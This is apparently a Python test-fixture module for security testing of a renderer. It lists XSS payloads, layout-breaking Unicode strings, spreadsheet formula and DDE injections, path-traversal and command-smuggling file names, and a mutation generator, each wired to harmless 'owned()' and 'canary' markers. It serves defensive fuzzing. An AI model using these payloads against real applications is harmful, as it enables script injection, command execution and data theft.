"""What means harm, written out: markup and scripts, tricks of layout, formulas, names of files; and mutations of it.

Each script calls `owned()` and each address leads to `canary`, so that one that runs, or loads, is noticed.
"""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

# %s is a place where the way to call differs; every payload runs owned() or asks for an address with "canary" in it.
SCRIPTS = [
    "<script>owned()</script>", "<SCRIPT>owned()</SCRIPT>", "<script src=/canary.js></script>", "<script src=//canary.invalid/a.js></script>",
    "<script type=module>owned()</script>", "<script>window.owned&&owned()//", "<scr<script>ipt>owned()</scr</script>ipt>",
    "</script><script>owned()</script>", "</title><script>owned()</script>", "</textarea><script>owned()</script>",
    "</style><script>owned()</script>", "--><script>owned()</script>", "]]><script>owned()</script>", "\"><script>owned()</script>",
    "'><script>owned()</script>", "`><script>owned()</script>", "</mark><script>owned()</script>", "</article><script>owned()</script>",
    "<img src=x onerror=owned()>", "<img src=x onerror='owned()'>", "<IMG SRC=x ONERROR=owned()>", "<img/src=x/onerror=owned()>",
    "<img src=x onerror=\"owned()\" ", "<img src=/canary.png>", "<img src=//canary.invalid/a.png>", "<img srcset=/canary.png>",
    "<img src=x onerror&#61;owned()>", "<img src=x on\nerror=owned()>", "<img src=x onerror\t=\towned()>", "<img\x0csrc=x\x0conerror=owned()>",
    "<image src=/canary.png>", "<picture><source srcset=/canary.png><img></picture>", "<body onload=owned()>", "<body background=/canary.png>",
    "<svg onload=owned()>", "<svg/onload=owned()>", "<svg><script>owned()</script></svg>", "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:owned()><text y=20>a</text></a></svg>", "<svg><use href=/canary.svg#a></svg>",
    "<svg><image href=/canary.png></svg>", "<svg><style>@import '/canary.css'</style></svg>", "<svg><foreignObject><iframe srcdoc='<script>parent.owned()</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()>", "<math href=javascript:owned()>a</math>",
    "<math><annotation-xml encoding=text/html><script>owned()</script>", "<iframe src=javascript:parent.owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>", "<iframe src=/canary.html></iframe>", "<frameset><frame src=javascript:owned()>",
    "<object data=/canary.swf></object>", "<object data='data:text/html,<script>parent.owned()</script>'></object>", "<embed src=/canary.swf>",
    "<embed src=javascript:owned()>", "<applet code=canary>", "<link rel=stylesheet href=/canary.css>", "<link rel=prefetch href=/canary>",
    "<link rel=modulepreload href=/canary.js>", "<style>@import url(/canary.css)</style>", "<style>*{background:url(/canary.png)}</style>",
    "<div style='background:url(/canary.png)'>a</div>", "<div style='behavior:url(/canary)'>a</div>", "<p style=\"list-style-image:url('/canary.png')\">a",
    "<a href=javascript:owned()>a</a>", "<a href='java\nscript:owned()'>a</a>", "<a href='jAvAsCrIpT:owned()'>a</a>", "<a href=' javascript:owned()'>a</a>",
    "<a href='\x01javascript:owned()'>a</a>", "<a href='data:text/html,<script>opener.owned()</script>'>a</a>", "<a href=vbscript:owned()>a</a>",
    "<a href=# onclick=owned()>a</a>", "<a ping=/canary href=#>a</a>", "<form action=javascript:owned()><button>a</button></form>",
    "<form action=/canary><input type=submit></form>", "<button formaction=javascript:owned()>a</button>", "<input autofocus onfocus=owned()>",
    "<textarea autofocus onfocus=owned()></textarea>", "<select autofocus onfocus=owned()>", "<keygen autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>", "<marquee onstart=owned()>", "<video src=/canary.mp4 autoplay></video>", "<video onloadstart=owned()><source>",
    "<video poster=/canary.png></video>", "<audio src=/canary.mp3 autoplay onerror=owned()></audio>", "<source src=/canary>",
    "<track src=/canary.vtt default>", "<meta http-equiv=refresh content='0;url=/canary'>", "<meta http-equiv=refresh content='0;url=javascript:owned()'>",
    "<base href=//canary.invalid/>", "<template><script>owned()</script></template>", "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<xmp><p title='</xmp><img src=x onerror=owned()>'>", "<plaintext>", "<listing>&lt;img src=x onerror=owned()&gt;</listing>",
    "<div contenteditable onfocus=owned() autofocus tabindex=1>", "<div onpointerenter=owned() style=position:fixed;inset:0>a</div>",
    "<p id=document name=body>", "<form id=jupyterapp><input name=commands>", "<a id=window><a id=window name=owned href=/canary>",
    "<button data-commandlinker-command=notebook:run-all-cells data-commandlinker-args='{}'>a</button>",
    "<a data-commandlinker-command=terminal:create-new href=#>a</a>", "<div is=x-canary>a</div>", "<x onclick=owned() class=jp-mod-active>a</x>",
    "&lt;script&gt;owned()&lt;/script&gt;", "&#60;script&#62;owned()&#60;/script&#62;", "&amp;lt;script&amp;gt;owned()&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e", "\\x3cscript\\x3eowned()\\x3c/script\\x3e", "%3Cscript%3Eowned()%3C/script%3E",
    "＜script＞owned()＜/script＞", "<ſcript>owned()</ſcript>", "<\u212aeygen>", "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "{{constructor.constructor('owned()')()}}", "${owned()}", "#{owned()}", "<%= owned() %>", "{% raw %}<script>owned()</script>", "javascript:owned()",
    "';owned();//", "\";owned();//", "`;owned();//", "\\';owned();//", "*/owned()/*", "0});owned();({", "$$\\href{javascript:owned()}{x}$$",
    "$\\require{html}\\style{background:url(/canary.png)}{x}$", "\\(\\unicode{<img src=x onerror=owned()>}\\)", "![a](/canary.png)",
    "[a](javascript:owned())", "[a](<javascript:owned()>)", "![a](javascript:owned() \"b\")", "<https://canary.invalid/?a>", "[a]: javascript:owned()",
    "[a](data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+)", "<javascript:owned()>", "!!python/object/apply:os.system ['canary']",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "owned", "__class__.__init__.__globals__",
]  # fmt: skip

LAYOUT = [
    "\u202eowned\u202c", "\u2066\u202e\u2067a", "a" * 5000, "W" * 5000, "\u0337\u0489" * 400, "Z" + "\u0300\u0315\u0363" * 200, "\ufdfa" * 300,
    "\n" * 300 + "x", "\t" * 300 + "x", "\u200b" * 2000 + "x", "\u00ad" * 500 + "x", "\u2028\u2029" * 50 + "x", "👩‍👩‍👧" * 300, "\U000e0001\U000e0061x",
    "\u3164", "\u115f\u1160", "ﷺ" * 100, "\u0e49" * 300, "x\u20e3\ufe0f" * 200, "𒐫" * 200,
]  # fmt: skip

# Starts of formulas, what starts them after blanks, the ones that phone home, and what only looks like one.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://canary.invalid\",\"a\")", "=IMPORTXML(\"//canary.invalid\",\"//a\")",
    "=WEBSERVICE(\"http://canary.invalid\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠a",
    "'=1+1", "''=1+1", "\"=1+1", "a;=1+1", "a;=HYPERLINK(\"//canary.invalid\")", "a\t=1+1", "a\n=1+1", "a\r=1+1", "a\r\n=1+1", "a; =1+1", "=\"a\"&\"b\"",
    "=DDE(\"cmd\";\"/C calc\";\"a\")", "%0A-1+1", "@", "=", "-", "+", "--1", "=A1=A1", "=1\x00", "|=1",
]  # fmt: skip

# As names of readers, files and folders.
PATHS = [
    "../../canary", "..\\..\\canary", "/etc/canary", "C:\\canary", "\\\\canary\\share", "//canary/share", "file:///canary", "~/canary", "~root", "$HOME/canary",
    "`touch canary`", "$(touch canary)", "; touch canary", "| touch canary", "-rf", "--help", "canary\x00.txt", "canary\n.txt", "con", "NUL", "aux.txt", "COM1",
    "canary.", "canary ", " canary", ".", "..", "...", ".ssh", "a/../../canary", "a/b", "a:b", "a*b?", "a\u2215b", "a\uff0fb", "\u202etxt.canary",
    "%2e%2e%2fcanary", "%00", "s3://canary/x", "http://canary.invalid/x",
]  # fmt: skip

# Keys and ids that have a meaning in JavaScript or Python.
KEYS = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "isPrototypeOf", "then", "length",
        "__class__", "__dict__", "self", "0", "-1", "", " ", "a b", "é", "a-1\n", "\ud800", "x" * 5000]  # fmt: skip

COLORS = [
    "red;background:url(/canary.png)", "url(/canary.png)", "#fff;--x:url(/canary.png)", "expression(owned())", "javascript:owned()", "#12345g", "#1234567",
    "#abcdef\n;background:url(/canary.png)", "var(--x,url(/canary.png))", "image-set('/canary.png' 1x)", "#abc", "rgb(1,2,3)", "transparent",
    "\"><script>owned()</script>", "#ABCDEF;}*{background:url(/canary.png)}", "inherit", "", "#ａｂｃｄｅｆ", "\\23 abcdef", "/**/#abcdef",
]  # fmt: skip

ALL = [*SCRIPTS, *LAYOUT, *FORMULAS, *PATHS]

_PARTS = [
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "\"", "'", "`", "=", " ", "\n", "\t", "\x0c", "\x01", "&", ";", "&#", "&lt;", "&colon;", "\\", "//", "`",
    "script", "img", "svg", "math", "iframe", "style", "a", "p", "div", "mark", "template", "form", "input", "base", "link", "meta", "object", "table", "title",
    "textarea", "select", "option", "noscript", "xmp", "foreignObject", "mglyph", "annotation-xml", "onerror=owned()", "onload=owned()", "onclick=owned()",
    "onfocus=owned() autofocus", "href=javascript:owned()", "src=/canary.png", "src=x", "srcdoc='<script>parent.owned()</script>'", "style='background:url(/canary.png)'",
    "id=jupyterapp", "name=owned", "data-commandlinker-command=terminal:create-new", "owned()", "javascript:", "/canary.png", "url(/canary.png)", "\u202e", "\ufeff",
    "\u0000"[:0], "{{owned()}}", "${owned()}", "\u2028", "🏴", "é",
]  # fmt: skip


def mutations(seed: int, count: int) -> Iterator[str]:
    """Texts made of known harm and of its parts: cut, joined, doubled, cased, escaped; the same for the same seed."""
    random = Random(seed)
    for _ in range(count):
        made = random.choice([*SCRIPTS, "", ""])
        for _ in range(random.randint(1, 6)):
            at, part = random.randint(0, len(made)), random.choice(_PARTS)
            how = random.random()
            if how < 0.6:
                made = made[:at] + part + made[at:]
            elif how < 0.7:
                made = made[:at] + made[at + random.randint(1, 4) :]
            elif how < 0.8:
                made += random.choice(SCRIPTS)
            elif how < 0.85:
                made = made.swapcase()
            elif how < 0.9:
                made = made.replace("<", random.choice(["&lt;", "<<", "< ", "\\x3c", "<\x01"]), 1)
            else:
                made = made[:at] + made[at:][::-1]
        yield made
